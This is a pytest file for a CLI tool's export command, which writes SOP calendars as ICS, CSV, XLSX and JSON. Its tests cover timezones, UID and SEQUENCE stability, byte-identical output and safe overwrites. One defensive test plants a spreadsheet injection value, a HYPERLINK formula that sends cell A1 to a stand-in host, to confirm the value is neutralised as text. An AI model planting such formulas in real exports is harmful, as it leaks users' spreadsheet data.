"""`sidomain export`: each format read back by a real consumer and compared with the plan.

ICS is parsed with vobject (a second, independent iCalendar library; the writer uses
icalendar), XLSX with openpyxl, CSV with the csv module after checking the BOM.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import vobject

from sidomain_cli.cli import run
from sidomain_cli.planner import SopTask
from tests.helpers_plan import ROOT, plan_for, write_profile

COFFEE = ROOT / "examples" / "coffee.yaml"
STORES = ROOT / "examples" / "stores.csv"
TASK_FIELDS = list(SopTask.__dataclass_fields__)


def export(capsys, *args) -> tuple[int, str, str]:
    code = run(["export", *map(str, args)])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


def export_ok(capsys, *args) -> str:
    code, out, err = export(capsys, *args)
    assert code == 0, err
    return out


def read_ics(path: Path):
    return vobject.readOne(path.read_text(encoding="utf-8"))


def x_prop(event, name: str) -> str:
    return event.contents[name.lower()][0].value


def cell_text(v) -> str:
    return "" if v is None else str(v)


# ---- ICS ------------------------------------------------------------------------------

def test_ics_events_match_the_plan_when_read_by_a_second_library(capsys, tmp_path):
    out = tmp_path / "coffee.ics"
    export_ok(capsys, COFFEE, "-f", "ics", "-o", out)
    plan = plan_for(COFFEE)
    cal = read_ics(out)
    assert cal.vtimezone.tzid.value == "Asia/Shanghai"
    events = cal.vevent_list
    assert len(events) == len(plan.calendar)
    assert out.read_text(encoding="utf-8").count("DTSTART;TZID=Asia/Shanghai:") == len(events)
    tz = ZoneInfo("Asia/Shanghai")
    for ev, task in zip(events, plan.calendar):
        start = ev.dtstart.value
        assert start.utcoffset() == dt.timedelta(hours=8)
        h, m = map(int, task.time.split(":"))
        assert start == dt.datetime.fromisoformat(task.date).replace(hour=h, minute=m, tzinfo=tz)
        assert ev.duration.value == dt.timedelta(minutes=15)
        assert ev.summary.value.endswith(task.action)
        assert ev.description.value == task.message
        assert ev.categories.value == [c for c in (task.channel, task.phase, task.activity) if c]
        assert x_prop(ev, "X-SIDOMAIN-TASK") == task.task
        assert int(x_prop(ev, "X-SIDOMAIN-DAY")) == task.day
        assert x_prop(ev, "X-SIDOMAIN-SEND") == task.send
        assert ev.sequence.value == "0"
    assert len({ev.uid.value for ev in events}) == len(events)


def test_ics_timezone_follows_the_profile_with_daylight_saving(capsys, tmp_path):
    profile = write_profile(tmp_path, timezone="Europe/Berlin", start_date="2027-03-01")
    out = tmp_path / "berlin.ics"
    export_ok(capsys, profile, "-f", "ics", "-o", out)
    cal = read_ics(out)
    assert cal.vtimezone.tzid.value == "Europe/Berlin"
    offsets = {ev.dtstart.value.utcoffset() for ev in cal.vevent_list}
    assert offsets == {dt.timedelta(hours=1), dt.timedelta(hours=2)}  # across the March switch


def uids(path: Path) -> dict[tuple[str, int], object]:
    return {(x_prop(ev, "X-SIDOMAIN-TASK"), int(x_prop(ev, "X-SIDOMAIN-DAY"))): ev
            for ev in read_ics(path).vevent_list}


def test_a_changed_task_keeps_its_uid_and_gets_a_higher_sequence(capsys, tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    profile = write_profile(tmp_path, offers={"referral_reward": "老带新双方各得一杯美式"})
    out = tmp_path / "sop.ics"
    export_ok(capsys, profile, "-f", "ics", "-o", out)
    first_bytes = out.read_bytes()
    before = uids(out)

    # Same input again over the same file: byte for byte the same.
    export_ok(capsys, profile, "-f", "ics", "-o", out, "--force")
    assert out.read_bytes() == first_bytes

    # A new offer changes some messages; the calendar app must update, not duplicate.
    write_profile(tmp_path, offers={"referral_reward": "老带新双方各得一张满30减10券"})
    export_ok(capsys, profile, "-f", "ics", "-o", out, "--force")
    after = uids(out)
    assert after.keys() == before.keys()
    changed = [k for k in before if before[k].description.value != after[k].description.value]
    assert changed, "the offer should change at least one message"
    assert any("满30减10" in after[k].description.value for k in changed)
    for key, old in before.items():
        new = after[key]
        assert new.uid.value == old.uid.value
        if key in changed:
            assert new.sequence.value == "1"
            assert new.dtstamp.value > old.dtstamp.value
        else:
            assert new.sequence.value == "0"
            assert new.dtstamp.value == old.dtstamp.value

    # Unchanged input once more: SEQUENCE does not creep up, bytes stay the same.
    second_bytes = out.read_bytes()
    export_ok(capsys, profile, "-f", "ics", "-o", out, "--force")
    assert out.read_bytes() == second_bytes


def identities(path: Path) -> dict[tuple, object]:
    """What each event is: (task, SOP day) for the SOP's rhythm, (task, date, node) for a
    dated task."""
    out = {}
    for ev in read_ics(path).vevent_list:
        if "status" in ev.contents and ev.status.value == "CANCELLED":
            continue  # an event of the earlier export that left the plan
        task = x_prop(ev, "X-SIDOMAIN-TASK")
        categories = {str(c) for cat in ev.contents.get("categories", []) for c in cat.value}
        if "x-sidomain-node" in ev.contents or categories & {"small", "small_preview"}:
            node = x_prop(ev, "X-SIDOMAIN-NODE") if "x-sidomain-node" in ev.contents else ""
            key = (task, ev.dtstart.value.date(), node)
        else:
            key = (task, int(x_prop(ev, "X-SIDOMAIN-DAY")))
        assert key not in out
        out[key] = ev
    return out


def test_a_later_start_moves_events_under_the_same_uids(capsys, tmp_path):
    """Changed on purpose (issue 12): a node task's UID follows its date, not its SOP day,
    so a later start keeps the 双12 post on 12-12 under the same UID."""
    a, b = tmp_path / "a.ics", tmp_path / "b.ics"
    export_ok(capsys, COFFEE, "-f", "ics", "-o", a)
    export_ok(capsys, COFFEE, "-f", "ics", "-o", b, "--start", "2026-12-02", "--previous", a)
    old, new = identities(a), identities(b)
    shared = old.keys() & new.keys()
    assert len(shared) > 0.8 * len(old)
    dated = [k for k in shared if len(k) == 3]
    assert dated, "node tasks keep their identity across the start change"
    for key in shared:
        assert new[key].uid.value == old[key].uid.value
        moved = dt.timedelta(days=0 if len(key) == 3 else 1)
        assert new[key].dtstart.value.date() == old[key].dtstart.value.date() + moved
        assert new[key].sequence.value == "1"  # routine: moved; dated: a new SOP day
    uids_new = {ev.uid.value for ev in new.values()}
    assert not uids_new & {old[k].uid.value for k in old.keys() - shared}


def test_source_date_epoch_sets_dtstamp(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01T00:00:00Z
    out = tmp_path / "sop.ics"
    export_ok(capsys, COFFEE, "-f", "ics", "-o", out)
    stamps = {ev.dtstamp.value for ev in read_ics(out).vevent_list}
    assert stamps == {dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)}


# ---- CSV ------------------------------------------------------------------------------

def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 BOM"
    assert b"\r\n" in raw
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_rows_match_the_plan(capsys, tmp_path):
    out = tmp_path / "coffee.csv"
    export_ok(capsys, COFFEE, "-o", out, "--header", "ids")  # format from the suffix
    rows = read_csv(out)
    plan = plan_for(COFFEE)
    assert list(rows[0]) == TASK_FIELDS
    assert len(rows) == len(plan.calendar)
    for row, task in zip(rows, plan.calendar):
        assert row == {k: cell_text(v) for k, v in task.as_dict().items()}
    assert any("熊猫咖啡" in r["message"] for r in rows)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_starts_are_neutralised(start):
    from sidomain_cli.exporters.csvfile import neutralise

    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("a=1") == "a=1"
    assert neutralise(7) == 7


def test_a_message_never_runs_as_a_formula_in_csv_or_xlsx(capsys, tmp_path):
    tdir = tmp_path / "tpl" / "zh-CN"
    tdir.mkdir(parents=True)
    (tdir / "moments_seed.j2").write_text("{{ offers.welcome_gift }} 今日推荐", encoding="utf-8")
    evil = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    profile = write_profile(tmp_path, offers={"welcome_gift": evil})
    common = [profile, "--templates", tmp_path / "tpl"]
    export_ok(capsys, *common, "-o", tmp_path / "x.csv", "--header", "ids")
    rows = read_csv(tmp_path / "x.csv")
    hits = [r for r in rows if r["template"] == "moments_seed"]
    assert hits and all(r["message"] == "'" + evil + " 今日推荐" for r in hits)
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())

    export_ok(capsys, *common, "-o", tmp_path / "x.xlsx", "--header", "ids")
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").worksheets[0]
    header = [c.value for c in ws[1]]
    col = header.index("message") + 1
    cells = [ws.cell(r, col) for r in range(2, ws.max_row + 1)
             if str(ws.cell(r, col).value).startswith("=")]
    assert cells, "the evil message is kept as text"
    assert all(c.data_type == "s" for c in cells)  # a string, not a formula


# ---- XLSX -----------------------------------------------------------------------------

def test_xlsx_calendar_and_summary_read_back_with_openpyxl(capsys, tmp_path):
    """Changed on purpose (issue 12 item 4): the header row is in the plan's language and
    a week column follows the date; `--header ids` gives the contract's field names."""
    from sidomain_cli.exporters.table import HEADERS

    out = tmp_path / "coffee.xlsx"
    export_ok(capsys, COFFEE, "-f", "xlsx", "-o", out)
    plan = plan_for(COFFEE)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["SOP日历", "概要"]
    ws = wb["SOP日历"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref
    ids = TASK_FIELDS[:2] + ["week"] + TASK_FIELDS[2:]
    header = [c.value for c in ws[1]]
    assert header == [HEADERS["zh-CN"][k] for k in ids]
    assert header[:4] == ["天", "日期", "周次", "时间"] and "话术" in header
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(plan.calendar)
    for row, task in zip(rows, plan.calendar):
        got = dict(zip(ids, row))
        assert got["date"] == dt.datetime.fromisoformat(task.date)  # a real Excel date
        assert got["week"] == (task.day - 1) // 7 + 1
        for k, v in task.as_dict().items():
            if k != "date":
                assert got[k] == v, k
    msg_col = openpyxl.utils.get_column_letter(ids.index("message") + 1)
    assert ws.column_dimensions[msg_col].width >= 40
    assert ws[f"{msg_col}2"].alignment.wrap_text
    summary = [[c for c in r if c is not None] for r in wb["概要"].iter_rows(values_only=True)]
    flat = [str(c) for r in summary for c in r]
    assert plan.diagnosis.store_type in flat and plan.diagnosis.operating_model in flat
    assert plan.diagnosis.why in flat
    for share in plan.channel_mix:
        assert [share.channel, share.label, share.role, share.share, share.max_per_day,
                share.disturbance] in summary
    for k in plan.kpis:
        assert k["name"] in flat and k["label"] in flat

    ids_out = tmp_path / "ids.xlsx"
    export_ok(capsys, COFFEE, "-f", "xlsx", "-o", ids_out, "--header", "ids")
    assert [c.value for c in openpyxl.load_workbook(ids_out).worksheets[0][1]] == ids


# ---- JSON / JSONL ---------------------------------------------------------------------

def test_json_is_the_plan_contract_calendar(capsys):
    out = export_ok(capsys, COFFEE, "-f", "json", "-o", "-")
    assert json.loads(out) == json.loads(json.dumps(plan_for(COFFEE).as_dict()))["calendar"]


def test_jsonl_rows_are_the_plan_contract_calendar(capsys, tmp_path):
    out = tmp_path / "coffee.jsonl"
    export_ok(capsys, COFFEE, "-o", out)
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert rows == [t.as_dict() for t in plan_for(COFFEE).calendar]


# ---- determinism, safety, CLI ---------------------------------------------------------

@pytest.mark.parametrize("fmt", ["ics", "csv", "xlsx", "json", "jsonl"])
def test_same_input_same_bytes(capsys, tmp_path, fmt):
    a, b = tmp_path / f"a.{fmt}", tmp_path / f"b.{fmt}"
    export_ok(capsys, COFFEE, "-f", fmt, "-o", a)
    export_ok(capsys, COFFEE, "-f", fmt, "-o", b)
    assert a.read_bytes() == b.read_bytes()


@pytest.mark.parametrize("fmt", ["ics", "csv", "json", "jsonl"])
def test_stdout_gets_the_same_bytes_as_a_file(capsys, tmp_path, fmt):
    path = tmp_path / f"x.{fmt}"
    export_ok(capsys, COFFEE, "-f", fmt, "-o", path)
    out = export_ok(capsys, COFFEE, "-f", fmt, "-o", "-")  # capsys keeps bytes as written
    assert out.encode("utf-8") == path.read_bytes()


def test_existing_file_survives_a_refused_export(capsys, tmp_path):
    out = tmp_path / "sop.csv"
    out.write_text("keep me", encoding="utf-8")
    code, stdout, err = export(capsys, COFFEE, "-o", out)
    assert code == 2
    assert "exists" in err and "--force" in err
    assert out.read_text(encoding="utf-8") == "keep me"


def test_existing_file_survives_a_failed_export(capsys, tmp_path, monkeypatch):
    from sidomain_cli.errors import TemplateError
    from sidomain_cli.exporters import csvfile

    out = tmp_path / "sop.csv"
    out.write_text("keep me", encoding="utf-8")

    def half_then_fail(source, fh, **kw):
        fh.write(b"day,date\r\n1,2026-12-01\r\n")
        raise TemplateError("template 'x' failed", path="x.j2")

    monkeypatch.setattr(csvfile, "write", half_then_fail)
    code, _, err = export(capsys, COFFEE, "-o", out, "--force")
    assert code == 2 and "x.j2" in err
    assert out.read_text(encoding="utf-8") == "keep me"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sop.csv"]  # no stray temp file

    # A broken profile fails before anything is written, too.
    bad = tmp_path / "bad.yaml"
    bad.write_text("brand: x\n", encoding="utf-8")
    code, _, err = export(capsys, bad, "-o", out, "--force")
    assert code == 2 and "bad.yaml" in err
    assert out.read_text(encoding="utf-8") == "keep me"


def test_xlsx_refuses_stdout_and_unknown_formats(capsys):
    code, out, err = export(capsys, COFFEE, "-f", "xlsx", "-o", "-")
    assert code == 2 and "xlsx cannot go to stdout" in err and out == ""
    code, out, err = export(capsys, COFFEE, "-f", "pdf")
    assert code == 2 and "'pdf' is not one of" in err


def test_no_progress_bar_when_stderr_is_not_a_terminal(capsys, tmp_path):
    code, _, err = export(capsys, COFFEE, "--stores", STORES, "-o", tmp_path / "x.jsonl")
    assert code == 0 and err == ""


def test_progress_bar_on_a_terminal(capsys, tmp_path, monkeypatch):
    import sidomain_cli.commands.export as cmd

    monkeypatch.setattr(cmd, "PROGRESS_MIN_ROWS", 0)
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    seen = []
    real = cmd._Bar.__enter__

    def spy(self):
        advance = real(self)
        return lambda n: (seen.append(n), advance(n))
    monkeypatch.setattr(cmd._Bar, "__enter__", spy)
    out = tmp_path / "x.jsonl"
    export_ok(capsys, COFFEE, "--stores", STORES, "-o", out)
    # one tick per group and one per staff account (issue 11 item 4, on purpose):
    # examples/stores.csv has 20 groups and 4 owners, each the account of their stores
    assert len(seen) == 20 + 4
    assert b"\x1b" not in out.read_bytes()


def test_help_teaches(capsys):
    code = run(["export", "--help"])
    out = capsys.readouterr().out
    assert code == 0
    for needle in ("Examples:", "  sidomain export examples/coffee.yaml -f ics -o coffee.ics",
                   "--stores examples/stores.csv", "Exit codes:", "SEQUENCE", "--force"):
        assert needle in out


def test_command_module_imports_nothing_heavy():
    code = ("import sys, sidomain_cli.cli; "
            "heavy = [m for m in ('icalendar', 'xlsxwriter', 'sidomain_cli.planner', "
            "'sidomain_cli.exporters') if m in sys.modules]; print(heavy)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True).stdout
    assert out.strip() == "[]"


def readme_export_lines():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    block = readme.split("## `sidomain export`", 1)[1].split("```", 2)[1]
    return [line.split("#")[0].strip() for line in block.splitlines()
            if line.startswith("sidomain export examples/")]


@pytest.mark.parametrize("line", readme_export_lines())
def test_export_examples_in_readme_run(line, tmp_path, monkeypatch, capsys):
    import shlex

    monkeypatch.chdir(ROOT)
    args = shlex.split(line)[1:]
    out = tmp_path / Path(args[args.index("-o") + 1]).name
    args[args.index("-o") + 1] = str(out)
    if "--force" in args:
        args.remove("--force")
        assert run(args) == 0, capsys.readouterr().err
        args.append("--force")
    assert run(args) == 0, capsys.readouterr().err
    assert out.exists() and out.stat().st_size > 0
